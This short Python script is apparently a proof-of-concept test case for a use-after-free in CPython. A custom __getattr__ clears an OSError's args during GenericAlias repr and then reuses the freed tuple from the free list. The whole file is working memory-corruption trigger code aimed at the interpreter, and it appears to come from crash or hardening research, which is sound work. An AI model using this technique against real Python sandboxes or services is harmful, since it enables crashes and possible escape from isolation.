# technique: OSError.__str__ without errno/strerror falls back to BaseException's str on args[0], which the OSError holder did not hold (use-after-free)
# expect: any
# re.error / json.JSONDecodeError / decimal.* / csv.Error / struct.error / zlib.error ... are heap
# classes created before fix_cpython: their tp_str/tp_repr are the ORIGINAL BaseException_str/repr.

class Other:
    def __repr__(self): return "OTHER(freed tuple reused)"
keep = []
class Evil:
    def __getattr__(self, name):
        if name == "__origin__":
            e.args = ()                      # frees args, the GenericAlias and its args tuple
            keep.append((Other(), Other()))  # takes the freed 2-tuple from the free list
        raise AttributeError(name)
    def __repr__(self): return "evil"
e = FileNotFoundError()  # no errno/strerror: OSError_str falls back to BaseException_str, args unheld
e.args = (list[Evil(), int],)                # ga_repr holds neither itself nor args[i]
print(str(e))
